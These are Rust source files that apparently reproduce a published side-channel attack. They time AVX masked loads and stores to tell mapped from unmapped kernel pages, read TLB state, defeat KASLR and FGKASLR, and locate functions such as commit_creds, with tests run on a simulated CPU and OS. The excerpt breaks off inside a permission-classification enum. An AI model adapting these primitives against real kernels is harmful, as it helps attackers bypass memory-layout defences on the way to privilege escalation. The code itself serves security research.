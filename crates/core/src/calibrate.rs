//! Threshold calibration (§IV-B).
//!
//! The attack needs a cycle threshold separating kernel-mapped from
//! unmapped probe times *without ever having seen a known kernel page*.
//! The paper's trick: a masked store to a user page whose dirty bit is
//! clear triggers the dirty-bit microcode assist, and its latency equals
//! the kernel-mapped masked-load latency. Averaging a few such stores on
//! an own, never-written page yields the threshold directly.

use avx_mmu::VirtAddr;
use avx_uarch::OpKind;

use crate::prober::Prober;
use crate::stats::{two_means_threshold, Welford};

/// A mapped/unmapped decision threshold in cycles.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct Threshold {
    /// The calibrated reference latency (≈ the kernel-mapped level).
    pub value: f64,
    /// Acceptance margin above `value` (defaults to half the
    /// mapped↔unmapped gap the paper reports, 14/2 = 7 cycles).
    pub margin: f64,
}

/// Default acceptance margin in cycles.
pub const DEFAULT_MARGIN: f64 = 7.0;

impl Threshold {
    /// Builds a threshold from an explicit reference value.
    #[must_use]
    pub fn new(value: f64, margin: f64) -> Self {
        Self { value, margin }
    }

    /// Calibrates per the paper: warm the calibration page's translation
    /// with a masked load, then time `samples` all-zero-mask stores.
    /// The zero mask never sets D, so every store replays the dirty
    /// assist and the measurement is stable.
    ///
    /// `calibration_page` must be a writable, never-written (D = 0) page
    /// owned by the attacker — [`avx_os::linux::UserContext::calibration`]
    /// provides one.
    pub fn calibrate<P: Prober + ?Sized>(
        p: &mut P,
        calibration_page: VirtAddr,
        samples: usize,
    ) -> Self {
        // Warm the translation so the samples are TLB hits.
        let _ = p.probe(OpKind::Load, calibration_page);
        let mut w = Welford::new();
        let mut min = u64::MAX;
        for _ in 0..samples.max(1) {
            let t = p.probe(OpKind::Store, calibration_page);
            min = min.min(t);
            w.push(t as f64);
        }
        // Use the median-ish floor: the mean is spike-sensitive, the
        // minimum is not. Pull the value toward the minimum.
        let value = if w.count() >= 4 {
            f64::min(w.mean(), min as f64 + 2.0)
        } else {
            w.mean()
        };
        Self {
            value,
            margin: DEFAULT_MARGIN,
        }
    }

    /// Store-probe calibration (P6): a masked *store* to an own
    /// non-writable page pays `base_store + assist_store` — exactly the
    /// kernel-mapped masked-store latency, i.e. the reference level for
    /// store-based scans (§IV-F probes with stores to save the 16–18
    /// cycle load/store delta on every probe).
    ///
    /// `read_only_page` must be an own mapped page without write
    /// permission (the attacker's text section works).
    pub fn calibrate_store<P: Prober + ?Sized>(
        p: &mut P,
        read_only_page: VirtAddr,
        samples: usize,
    ) -> Self {
        // Warm the translation.
        let _ = p.probe(OpKind::Load, read_only_page);
        let mut w = Welford::new();
        let mut min = u64::MAX;
        for _ in 0..samples.max(1) {
            let t = p.probe(OpKind::Store, read_only_page);
            min = min.min(t);
            w.push(t as f64);
        }
        let value = if w.count() >= 4 {
            f64::min(w.mean(), min as f64 + 2.0)
        } else {
            w.mean()
        };
        Self {
            value,
            margin: DEFAULT_MARGIN,
        }
    }

    /// Automatic fallback: split a bimodal sample set (e.g. one full
    /// 512-slot scan) into two clusters and threshold at the midpoint.
    /// Useful when no clean calibration page exists (Windows guests).
    ///
    /// Interrupt spikes would otherwise form their own far-away cluster
    /// and swallow both real bands, so the top few percent of samples
    /// are trimmed before clustering.
    #[must_use]
    pub fn from_bimodal_samples(samples: &[u64]) -> Option<Self> {
        if samples.is_empty() {
            return None;
        }
        let mut sorted = samples.to_vec();
        sorted.sort_unstable();
        let keep = (sorted.len() * 97).div_ceil(100).max(1);
        let trimmed = &sorted[..keep];
        two_means_threshold(trimmed).map(|mid| Self {
            // `is_mapped` accepts value + margin; center the midpoint.
            value: mid - DEFAULT_MARGIN,
            margin: DEFAULT_MARGIN,
        })
    }

    /// Classifies one measured latency.
    #[must_use]
    pub fn is_mapped(&self, cycles: u64) -> bool {
        (cycles as f64) <= self.value + self.margin
    }

    /// The effective decision boundary.
    #[must_use]
    pub fn boundary(&self) -> f64 {
        self.value + self.margin
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_os::linux::{LinuxConfig, LinuxSystem};
    use avx_uarch::{CpuProfile, NoiseModel};

    fn prober(seed: u64) -> (SimProber, avx_os::linux::LinuxTruth) {
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (mut machine, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
        machine.set_noise(NoiseModel::none());
        (SimProber::new(machine), truth)
    }

    #[test]
    fn calibrated_threshold_separates_mapped_from_unmapped() {
        let (mut p, truth) = prober(1);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);
        // Kernel-mapped steady load = 93, unmapped = 107 on Alder Lake.
        assert!(th.is_mapped(93), "boundary {}", th.boundary());
        assert!(!th.is_mapped(107), "boundary {}", th.boundary());
    }

    #[test]
    fn calibrated_value_matches_identity() {
        let (mut p, truth) = prober(2);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);
        // base_load + assist_load = 93 on this profile.
        assert!((th.value - 93.0).abs() <= 2.0, "value {}", th.value);
    }

    #[test]
    fn calibration_survives_noise() {
        let sys = LinuxSystem::build(LinuxConfig::seeded(3));
        let (machine, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 3);
        let mut p = SimProber::new(machine); // profile noise stays on
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 32);
        assert!(th.value > 85.0 && th.value < 101.0, "value {}", th.value);
    }

    #[test]
    fn bimodal_fallback() {
        let mut samples = Vec::new();
        for i in 0..200u64 {
            samples.push(92 + (i % 3));
            samples.push(106 + (i % 3));
        }
        let th = Threshold::from_bimodal_samples(&samples).unwrap();
        assert!(th.is_mapped(93));
        assert!(!th.is_mapped(107));
        assert!(Threshold::from_bimodal_samples(&[5, 5, 5]).is_none());
    }

    #[test]
    fn explicit_threshold_boundary() {
        let th = Threshold::new(93.0, 7.0);
        assert!(th.is_mapped(100));
        assert!(!th.is_mapped(101));
        assert_eq!(th.boundary(), 100.0);
    }
}
