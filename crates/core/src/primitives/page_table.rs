//! The page-table attack primitive (P2/P3).
//!
//! Distinguishes present from non-present pages through masked-op
//! latency (P2) and, on CPUs where the P-bit is invisible (AMD), leaks
//! the page-table level at which the walk terminates (P3).

use avx_mmu::VirtAddr;
use avx_uarch::OpKind;

use crate::adaptive::{AdaptiveMinFilter, AdaptiveSampler};
use crate::calibrate::Threshold;
use crate::prober::{ProbeStrategy, Prober};
use crate::recal::{RecalConfig, Recalibrating, RecalibratingMinFilter};
use crate::stats::two_means_threshold;
use crate::sweep::AddrRange;

/// One classified sweep over a candidate set: the raw series, the
/// per-candidate verdicts and the probe budget it actually consumed.
#[derive(Clone, Debug)]
pub struct SweepClassification {
    /// Representative latency per candidate (raw measurement on the
    /// fixed path, spike-filtered floor on the adaptive path).
    pub samples: Vec<u64>,
    /// Mapped/unmapped verdict per candidate.
    pub mapped: Vec<bool>,
    /// Raw probes issued across the sweep, warm-ups included.
    pub probes: u64,
    /// In-scan recalibrations the closed loop performed (always 0 on
    /// the open-loop paths; see [`crate::recal::Recalibrating`]).
    pub refits: u32,
}

impl SweepClassification {
    /// Mean probes per candidate (0 for an empty sweep).
    #[must_use]
    pub fn probes_per_address(&self) -> f64 {
        if self.mapped.is_empty() {
            0.0
        } else {
            self.probes as f64 / self.mapped.len() as f64
        }
    }
}

/// P2: mapped/unmapped classification of arbitrary (incl. kernel) pages.
#[derive(Clone, Copy, Debug)]
pub struct PageTableAttack {
    /// Decision threshold.
    pub threshold: Threshold,
    /// Measurement composition (paper default: probe twice, keep 2nd).
    pub strategy: ProbeStrategy,
    /// Which op to time (loads by default; stores are ~17 cycles faster
    /// and equally usable, P6).
    pub op: OpKind,
    /// When set, [`PageTableAttack::sweep`] routes through the
    /// SPRT-based early-stopping engine instead of the fixed strategy.
    pub sampler: Option<AdaptiveSampler>,
    /// When set, sweeps run under the closed-loop recalibration driver
    /// ([`crate::recal::Recalibrating`]): a drift monitor watches the
    /// stream and re-fits threshold + σ mid-scan when the environment
    /// shifts. `None` (the default) is the one-shot-calibration paper
    /// methodology, bit-exact with the pre-recalibration engine.
    pub recal: Option<RecalConfig>,
}

impl PageTableAttack {
    /// A paper-default attack instance for a calibrated threshold.
    #[must_use]
    pub fn new(threshold: Threshold) -> Self {
        Self {
            threshold,
            strategy: ProbeStrategy::SecondOfTwo,
            op: OpKind::Load,
            sampler: None,
            recal: None,
        }
    }

    /// Switches the sweep path to adaptive sequential sampling.
    #[must_use]
    pub fn with_adaptive(mut self, sampler: AdaptiveSampler) -> Self {
        self.sampler = Some(sampler);
        self
    }

    /// Switches sweeps to the closed-loop recalibration driver.
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        self.recal = Some(config);
        self
    }

    /// Times one candidate page.
    pub fn measure<P: Prober + ?Sized>(&self, p: &mut P, addr: VirtAddr) -> u64 {
        self.strategy.measure(p, self.op, addr)
    }

    /// `true` if the candidate classifies as mapped.
    pub fn is_mapped<P: Prober + ?Sized>(&self, p: &mut P, addr: VirtAddr) -> bool {
        self.threshold.is_mapped(self.measure(p, addr))
    }

    /// Measures every candidate of `addrs` through the batched probe
    /// pipeline; returns raw latencies in input order.
    pub fn measure_addrs<P: Prober + ?Sized>(&self, p: &mut P, addrs: &[VirtAddr]) -> Vec<u64> {
        self.strategy.measure_batch(p, self.op, addrs)
    }

    /// Measures every candidate of `range` without materializing it:
    /// tile-sized address chunks stream through one reused buffer into
    /// [`ProbeStrategy::measure_batch_into`]. Chunking at the batch
    /// tile size keeps the warm/measure interleaving — and therefore
    /// every reading — identical to the slice-based path.
    pub fn measure_range_streamed<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        range: &AddrRange,
    ) -> Vec<u64> {
        let mut out = Vec::with_capacity(range.len());
        let mut scratch = crate::prober::ProbeScratch::default();
        let mut tile = Vec::with_capacity(ProbeStrategy::BATCH_TILE);
        for chunk in range.chunks(ProbeStrategy::BATCH_TILE as u64) {
            chunk.fill(&mut tile);
            self.strategy
                .measure_batch_into(p, self.op, &tile, &mut out, &mut scratch);
        }
        out
    }

    /// Measures `count` candidates at `stride` from `start`; returns the
    /// raw latencies (the Fig. 4 series), streamed tile by tile.
    pub fn measure_range<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        start: VirtAddr,
        stride: u64,
        count: u64,
    ) -> Vec<u64> {
        self.measure_range_streamed(p, &AddrRange::new(start, stride, count))
    }

    /// Classifies a measured series with the attack's threshold.
    #[must_use]
    pub fn classify(&self, samples: &[u64]) -> Vec<bool> {
        samples
            .iter()
            .map(|&s| self.threshold.is_mapped(s))
            .collect()
    }

    /// Measures *and* classifies `addrs` through whichever sampling
    /// engine is configured — the one entry point every sweep-shaped
    /// attack (Fig. 4/5, KPTI, Windows, cloud) routes through.
    ///
    /// Fixed path: [`PageTableAttack::measure_addrs`] followed by
    /// [`PageTableAttack::classify`], spending the full per-address
    /// strategy budget. Adaptive path:
    /// [`AdaptiveSampler::classify_batch`], which stops probing each
    /// address as soon as its classification is statistically settled.
    pub fn sweep<P: Prober + ?Sized>(&self, p: &mut P, addrs: &[VirtAddr]) -> SweepClassification {
        if let Some(config) = self.recal {
            return Recalibrating::new(*self, config).sweep(p, addrs);
        }
        match self.sampler {
            None => {
                let samples = self.measure_addrs(p, addrs);
                let mapped = self.classify(&samples);
                SweepClassification {
                    samples,
                    mapped,
                    probes: addrs.len() as u64 * u64::from(self.strategy.probes_per_measurement()),
                    refits: 0,
                }
            }
            Some(sampler) => {
                let batch = sampler.classify_batch(p, self.op, addrs);
                SweepClassification {
                    probes: batch.total_probes(),
                    samples: batch.samples,
                    mapped: batch.mapped,
                    refits: 0,
                }
            }
        }
    }

    /// [`PageTableAttack::sweep`] over an [`AddrRange`], streaming
    /// tile-sized address chunks instead of materializing the range —
    /// the entry point of the full-series scans (Fig. 4/5, KPTI,
    /// Windows region chunks). Identical measurements and probe counts
    /// to `sweep(p, &range.to_vec())`.
    pub fn sweep_range<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        range: &AddrRange,
    ) -> SweepClassification {
        if let Some(config) = self.recal {
            return Recalibrating::new(*self, config).sweep_range(p, range);
        }
        match self.sampler {
            None => {
                let samples = self.measure_range_streamed(p, range);
                let mapped = self.classify(&samples);
                SweepClassification {
                    samples,
                    mapped,
                    probes: range.count * u64::from(self.strategy.probes_per_measurement()),
                    refits: 0,
                }
            }
            Some(sampler) => {
                let batch = sampler.classify_range(p, self.op, range);
                SweepClassification {
                    probes: batch.total_probes(),
                    samples: batch.samples,
                    mapped: batch.mapped,
                    refits: 0,
                }
            }
        }
    }
}

/// P3: walk-termination-level leakage, the signal used against AMD
/// (§IV-B) where P2 is unavailable.
#[derive(Clone, Copy, Debug)]
pub struct LevelAttack {
    /// Probes per candidate (minimum taken; spikes only add latency).
    pub repeats: u8,
    /// When set, the min-filter stops early once a candidate's floor
    /// has stabilized instead of always spending the full width.
    pub early_stop: Option<AdaptiveMinFilter>,
    /// When set (together with `early_stop`), range sweeps run under
    /// the closed-loop [`crate::recal::RecalibratingMinFilter`]: a
    /// dispersion shift of the latency floors escalates the min-filter
    /// budget mid-scan. `None` (the default) is the open-loop path.
    pub recal: Option<RecalConfig>,
}

impl Default for LevelAttack {
    fn default() -> Self {
        Self {
            repeats: 6,
            early_stop: None,
            recal: None,
        }
    }
}

impl LevelAttack {
    /// Switches the sweep to the early-stopping min-filter.
    #[must_use]
    pub fn with_early_stop(mut self, filter: AdaptiveMinFilter) -> Self {
        self.early_stop = Some(filter);
        self
    }

    /// Switches range sweeps to the closed-loop escalating min-filter
    /// (implies the early-stopping filter; a default one is installed
    /// if none was configured).
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        if self.early_stop.is_none() {
            self.early_stop = Some(AdaptiveMinFilter::default());
        }
        self.recal = Some(config);
        self
    }

    /// Measures every candidate of `addrs` with a min-filter through the
    /// batched probe pipeline.
    pub fn measure_addrs<P: Prober + ?Sized>(&self, p: &mut P, addrs: &[VirtAddr]) -> Vec<u64> {
        self.measure_counted(p, addrs).0
    }

    /// Like [`LevelAttack::measure_addrs`], additionally returning the
    /// raw probe count the sweep consumed.
    pub fn measure_counted<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        addrs: &[VirtAddr],
    ) -> (Vec<u64>, u64) {
        match self.early_stop {
            None => {
                let strategy = ProbeStrategy::MinOf(self.repeats);
                let samples = strategy.measure_batch(p, OpKind::Load, addrs);
                let probes = addrs.len() as u64 * u64::from(strategy.probes_per_measurement());
                (samples, probes)
            }
            Some(filter) => {
                let batch = filter.measure_batch(p, OpKind::Load, addrs);
                let probes = batch.total_probes();
                (batch.mins, probes)
            }
        }
    }

    /// Like [`LevelAttack::measure_counted`] over an [`AddrRange`],
    /// streaming tile-sized chunks instead of materializing the range.
    pub fn measure_range_counted<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        range: &AddrRange,
    ) -> (Vec<u64>, u64) {
        if let (Some(config), Some(filter)) = (self.recal, self.early_stop) {
            return RecalibratingMinFilter::new(filter, config).measure_range(p, range);
        }
        match self.early_stop {
            None => {
                let strategy = ProbeStrategy::MinOf(self.repeats);
                let mut out = Vec::with_capacity(range.len());
                let mut scratch = crate::prober::ProbeScratch::default();
                let mut tile = Vec::with_capacity(ProbeStrategy::BATCH_TILE);
                for chunk in range.chunks(ProbeStrategy::BATCH_TILE as u64) {
                    chunk.fill(&mut tile);
                    strategy.measure_batch_into(p, OpKind::Load, &tile, &mut out, &mut scratch);
                }
                let probes = range.count * u64::from(strategy.probes_per_measurement());
                (out, probes)
            }
            Some(filter) => {
                let batch = filter.measure_range(p, OpKind::Load, range);
                let probes = batch.total_probes();
                (batch.mins, probes)
            }
        }
    }

    /// Measures each candidate with a min-filter.
    pub fn measure_range<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        start: VirtAddr,
        stride: u64,
        count: u64,
    ) -> Vec<u64> {
        self.measure_range_counted(p, &AddrRange::new(start, stride, count))
            .0
    }

    /// Finds the slow outliers of a series — candidates whose walks
    /// terminate deeper (PT) than the surrounding baseline (PD).
    ///
    /// Returns indices of outliers, or an empty vector when the series
    /// is unimodal (no PT-mapped candidates in range).
    #[must_use]
    pub fn outliers(&self, samples: &[u64]) -> Vec<usize> {
        let Some(split) = two_means_threshold(samples) else {
            return Vec::new();
        };
        // Require a real gap: at least 10 cycles between cluster means,
        // otherwise the split is noise.
        let slow: Vec<usize> = samples
            .iter()
            .enumerate()
            .filter(|(_, &s)| (s as f64) > split)
            .map(|(i, _)| i)
            .collect();
        if slow.is_empty() || slow.len() == samples.len() {
            return Vec::new();
        }
        let fast_max = samples
            .iter()
            .filter(|&&s| (s as f64) <= split)
            .max()
            .copied()
            .unwrap_or(0);
        let slow_min = slow.iter().map(|&i| samples[i]).min().unwrap_or(u64::MAX);
        if slow_min.saturating_sub(fast_max) < 10 {
            return Vec::new();
        }
        slow
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_os::linux::{LinuxConfig, LinuxSystem, KASLR_ALIGN, KERNEL_TEXT_REGION_START};
    use avx_uarch::{CpuProfile, NoiseModel};

    fn intel_prober(seed: u64) -> (SimProber, avx_os::LinuxTruth) {
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
        m.set_noise(NoiseModel::none());
        (SimProber::new(m), truth)
    }

    #[test]
    fn p2_distinguishes_kernel_mapped_from_unmapped() {
        let (mut p, truth) = intel_prober(1);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = PageTableAttack::new(th);
        assert!(attack.is_mapped(&mut p, truth.kernel_base));
        let hole = VirtAddr::new_truncate(
            truth.kernel_base.as_u64() + (truth.kernel_slots + 3) * KASLR_ALIGN,
        );
        if hole.as_u64() < avx_os::linux::KERNEL_TEXT_REGION_END {
            assert!(!attack.is_mapped(&mut p, hole));
        }
    }

    #[test]
    fn measure_range_produces_series() {
        let (mut p, truth) = intel_prober(2);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = PageTableAttack::new(th);
        let series = attack.measure_range(
            &mut p,
            VirtAddr::new_truncate(KERNEL_TEXT_REGION_START),
            KASLR_ALIGN,
            64,
        );
        assert_eq!(series.len(), 64);
        let classes = attack.classify(&series);
        assert_eq!(classes.len(), 64);
    }

    #[test]
    fn p3_finds_pt_outliers_on_amd() {
        let sys = LinuxSystem::build(LinuxConfig {
            fixed_slide: Some(100),
            ..LinuxConfig::seeded(3)
        });
        let (mut m, truth) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), 3);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::new(m);
        let attack = LevelAttack::default();
        let series = attack.measure_range(
            &mut p,
            VirtAddr::new_truncate(KERNEL_TEXT_REGION_START),
            KASLR_ALIGN,
            512,
        );
        let outliers = attack.outliers(&series);
        // The five 4 KiB-split slots stand out at their in-image offsets
        // (slots 8, 9, 10, 18, 19 relative to the slide of 100).
        let expected: Vec<usize> = vec![108, 109, 110, 118, 119];
        assert_eq!(outliers, expected);
        let _ = truth;
    }

    #[test]
    fn p3_outliers_empty_on_flat_series() {
        let attack = LevelAttack::default();
        assert!(attack.outliers(&[285; 64]).is_empty());
        assert!(attack.outliers(&[]).is_empty());
        // Small jitter without a real gap: no outliers.
        let jitter: Vec<u64> = (0..64).map(|i| 285 + (i % 3)).collect();
        assert!(attack.outliers(&jitter).is_empty());
    }
}
