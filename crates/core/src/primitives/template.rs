//! TLB template attack: locate *which page* the victim touches.
//!
//! The generalization of P4 used twice in the paper: against FGKASLR
//! ("leveraging TLB state template attacks", §V-A) and to break the
//! 4 KiB-randomized Windows entry point (§IV-G). Per candidate page:
//! evict its translation, let the victim run once, probe — only the
//! page the victim actually executed turns hot.

use avx_mmu::VirtAddr;

use crate::calibrate::Threshold;
use crate::prober::Prober;

use super::tlb::{TlbAttack, TlbState};

/// The template attack.
#[derive(Clone, Copy, Debug)]
pub struct TlbTemplateAttack {
    tlb: TlbAttack,
}

impl TlbTemplateAttack {
    /// Builds a template attack whose hit boundary hugs the calibrated
    /// hit level: non-target candidates still pay at least a warm walk
    /// (a handful of cycles above a hit) because the victim's own
    /// activity rewarms the paging-structure caches.
    #[must_use]
    pub fn new(threshold: &Threshold) -> Self {
        Self {
            tlb: TlbAttack::with_boundary(threshold.value + 4.0),
        }
    }

    /// Builds with an explicit boundary.
    #[must_use]
    pub fn with_boundary(hit_boundary: f64) -> Self {
        Self {
            tlb: TlbAttack::with_boundary(hit_boundary),
        }
    }

    /// Scans `pages` 4 KiB candidates from `base`, running `trigger`
    /// (the victim action) between eviction and probe of each; returns
    /// the first hot page.
    pub fn locate<P, F>(
        &self,
        p: &mut P,
        base: VirtAddr,
        pages: u64,
        mut trigger: F,
    ) -> Option<VirtAddr>
    where
        P: Prober + ?Sized,
        F: FnMut(&mut P),
    {
        for i in 0..pages {
            let candidate = base.wrapping_add(i * 4096);
            self.tlb.arm(p, candidate);
            trigger(p);
            let (state, _) = self.tlb.observe(p, candidate);
            if state == TlbState::Hit {
                return Some(candidate);
            }
        }
        None
    }

    /// Like [`TlbTemplateAttack::locate`] but collects *every* hot page
    /// (victim actions that touch several pages per run).
    pub fn locate_all<P, F>(
        &self,
        p: &mut P,
        base: VirtAddr,
        pages: u64,
        mut trigger: F,
    ) -> Vec<VirtAddr>
    where
        P: Prober + ?Sized,
        F: FnMut(&mut P),
    {
        let mut hot = Vec::new();
        for i in 0..pages {
            let candidate = base.wrapping_add(i * 4096);
            self.tlb.arm(p, candidate);
            trigger(p);
            let (state, _) = self.tlb.observe(p, candidate);
            if state == TlbState::Hit {
                hot.push(candidate);
            }
        }
        hot
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_os::linux::{LinuxConfig, LinuxSystem};
    use avx_uarch::{CpuProfile, NoiseModel};

    #[test]
    fn locates_the_touched_page_among_candidates() {
        let sys = LinuxSystem::build(LinuxConfig {
            fgkaslr: true,
            fixed_slide: Some(50),
            ..LinuxConfig::seeded(1)
        });
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 1);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::new(m);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let template = TlbTemplateAttack::new(&th);

        let target = truth
            .function_addr("commit_creds")
            .unwrap()
            .align_down(4096);
        let found = template.locate(&mut p, truth.kernel_base, 8 * 512, |p| {
            p.machine_mut().touch_as_kernel(target);
        });
        assert_eq!(found, Some(target));
    }

    #[test]
    fn no_victim_activity_no_hot_pages() {
        let sys = LinuxSystem::build(LinuxConfig {
            fixed_slide: Some(60),
            ..LinuxConfig::seeded(2)
        });
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 2);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::new(m);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let template = TlbTemplateAttack::new(&th);
        let found = template.locate(&mut p, truth.kernel_base, 256, |_| {});
        assert_eq!(found, None);
    }

    #[test]
    fn locate_all_finds_multi_page_victims() {
        let sys = LinuxSystem::build(LinuxConfig {
            fgkaslr: true,
            fixed_slide: Some(70),
            ..LinuxConfig::seeded(3)
        });
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 3);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::new(m);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let template = TlbTemplateAttack::new(&th);

        let a = truth
            .function_addr("commit_creds")
            .unwrap()
            .align_down(4096);
        let b = truth
            .function_addr("prepare_kernel_cred")
            .unwrap()
            .align_down(4096);
        let hot = template.locate_all(&mut p, truth.kernel_base, 8 * 512, |p| {
            p.machine_mut().touch_as_kernel(a);
            p.machine_mut().touch_as_kernel(b);
        });
        assert!(hot.contains(&a), "{hot:?}");
        assert!(hot.contains(&b), "{hot:?}");
    }
}
