//! The three attack primitives of §III-C.
//!
//! * [`PageTableAttack`] — mapped/unmapped classification (P2) and, via
//!   [`LevelAttack`], walk-termination-level leakage (P3),
//! * [`TlbAttack`] — TLB hit/miss oracle (P4),
//! * [`PermissionAttack`] — page-permission classification (P5).
//!
//! All primitives suppress page faults by construction (P1): they only
//! ever issue all-zero-mask operations through [`crate::Prober`].

pub mod page_table;
pub mod permission;
pub mod template;
pub mod tlb;

pub use page_table::{LevelAttack, PageTableAttack, SweepClassification};
pub use permission::{PermissionAttack, ProbedPerm};
pub use template::TlbTemplateAttack;
pub use tlb::{TlbAttack, TlbState};
