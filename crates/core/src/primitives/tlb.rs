//! The TLB attack primitive (P4).
//!
//! Distinguishes whether a translation is currently cached in the TLB.
//! The attack's recipe: evict the candidate's translation, wait for (or
//! trigger) victim activity, then time a *single* masked op — a hit
//! means someone used the page since the eviction. Used for the Fig. 6
//! behaviour spy, the Windows entry-point refinement and the FLARE
//! bypass (§V-A).

use avx_mmu::VirtAddr;
use avx_uarch::OpKind;

use crate::calibrate::Threshold;
use crate::prober::Prober;

/// Observed TLB state of a candidate translation.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum TlbState {
    /// The translation was cached: someone touched the page recently.
    Hit,
    /// The probe paid a full page walk: the page was idle.
    Miss,
}

/// P4: TLB-state oracle.
#[derive(Clone, Copy, Debug)]
pub struct TlbAttack {
    /// Latencies at or below this classify as hits. For kernel pages the
    /// hit level is `base + assist` (≈ the mapped threshold), while a
    /// post-eviction miss pays a cold walk several hundred cycles above
    /// it — the gap is wide, so the boundary is uncritical.
    pub hit_boundary: f64,
}

impl TlbAttack {
    /// Derives the hit boundary from a calibrated mapped/unmapped
    /// threshold: hits sit at the threshold level, cold misses far
    /// above; place the boundary one gap above the threshold.
    #[must_use]
    pub fn from_threshold(threshold: &Threshold) -> Self {
        Self {
            hit_boundary: threshold.value + 60.0,
        }
    }

    /// Builds with an explicit boundary (e.g. from a two-means split of
    /// an observed trace).
    #[must_use]
    pub fn with_boundary(hit_boundary: f64) -> Self {
        Self { hit_boundary }
    }

    /// Evicts the candidate's translation — the arming step.
    pub fn arm<P: Prober + ?Sized>(&self, p: &mut P, addr: VirtAddr) {
        p.evict(addr);
    }

    /// Times one probe (single-shot: the probe itself refills the TLB,
    /// so repeated measurement would self-pollute) and classifies it.
    pub fn observe<P: Prober + ?Sized>(&self, p: &mut P, addr: VirtAddr) -> (TlbState, u64) {
        let cycles = p.probe(OpKind::Load, addr);
        (self.classify(cycles), cycles)
    }

    /// Classifies a latency.
    #[must_use]
    pub fn classify(&self, cycles: u64) -> TlbState {
        if (cycles as f64) <= self.hit_boundary {
            TlbState::Hit
        } else {
            TlbState::Miss
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::calibrate::Threshold;
    use crate::prober::SimProber;
    use avx_os::linux::{LinuxConfig, LinuxSystem};
    use avx_uarch::{CpuProfile, NoiseModel};

    fn prober(seed: u64) -> (SimProber, avx_os::LinuxTruth) {
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (mut m, truth) = sys.into_machine(CpuProfile::ice_lake_i7_1065g7(), seed);
        m.set_noise(NoiseModel::none());
        (SimProber::new(m), truth)
    }

    #[test]
    fn armed_idle_page_misses() {
        let (mut p, truth) = prober(1);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = TlbAttack::from_threshold(&th);
        let page = truth.module("bluetooth").unwrap().base;
        attack.arm(&mut p, page);
        let (state, cycles) = attack.observe(&mut p, page);
        assert_eq!(state, TlbState::Miss, "{cycles} cycles");
        assert!(cycles > 300, "cold walk expected, got {cycles}");
    }

    #[test]
    fn kernel_activity_turns_miss_into_hit() {
        let (mut p, truth) = prober(2);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = TlbAttack::from_threshold(&th);
        let page = truth.module("psmouse").unwrap().base;
        attack.arm(&mut p, page);
        // The victim (kernel driver) touches the page between arm and
        // observe:
        p.machine_mut().touch_as_kernel(page);
        let (state, cycles) = attack.observe(&mut p, page);
        assert_eq!(state, TlbState::Hit, "{cycles} cycles");
    }

    #[test]
    fn probe_refill_is_visible_to_next_observation() {
        let (mut p, truth) = prober(3);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = TlbAttack::from_threshold(&th);
        let page = truth.module("bluetooth").unwrap().base;
        attack.arm(&mut p, page);
        let (first, _) = attack.observe(&mut p, page);
        assert_eq!(first, TlbState::Miss);
        // No re-arm: the first probe cached the translation itself.
        let (second, _) = attack.observe(&mut p, page);
        assert_eq!(second, TlbState::Hit, "self-pollution without re-arm");
    }

    #[test]
    fn classify_boundary() {
        let attack = TlbAttack::with_boundary(150.0);
        assert_eq!(attack.classify(93), TlbState::Hit);
        assert_eq!(attack.classify(150), TlbState::Hit);
        assert_eq!(attack.classify(151), TlbState::Miss);
    }
}
