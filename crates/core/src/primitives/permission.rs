//! The permission attack primitive (P5).
//!
//! Combines a masked load (readable vs `---`/unmapped) with a masked
//! store (writable vs not: stores to non-writable pages take a
//! microcode assist, Fig. 3) to classify user-space pages into the three
//! timing-distinguishable classes of Fig. 7.

use core::fmt;

use avx_mmu::VirtAddr;
use avx_uarch::OpKind;

use crate::adaptive::{AdaptiveConfig, AdaptiveSampler};
use crate::prober::{ProbeStrategy, Prober};

/// What the timing channel can say about a user page's permissions.
///
/// `r--` and `r-x` are indistinguishable (loads time identically and NX
/// does not affect data accesses) — the paper reports them as the merged
/// class `(r--|r-x)`; likewise `---` and unmapped merge.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum ProbedPerm {
